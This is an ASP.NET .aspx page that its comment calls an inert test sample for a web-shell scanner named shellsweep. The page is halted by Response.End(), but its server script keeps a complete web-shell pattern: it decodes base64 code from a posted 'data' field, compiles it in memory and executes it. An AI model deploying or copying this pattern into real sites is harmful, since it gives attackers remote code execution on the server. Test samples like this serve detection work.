<%@ Page Language="C#" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<%@ Import Namespace="Microsoft.CSharp" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<script runat="server">
string Run(string src) {
    CSharpCodeProvider provider = new CSharpCodeProvider();
    CompilerParameters cp = new CompilerParameters(); cp.GenerateInMemory = true;
    CompilerResults r = provider.CompileAssemblyFromSource(cp, src);
    return r.CompiledAssembly.GetType("SharPy").GetMethod("Run").Invoke(null, null).ToString();
}
void Page_Load(object s, EventArgs e) { string code = Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["data"])); Response.Write(Run(code)); }
</script>
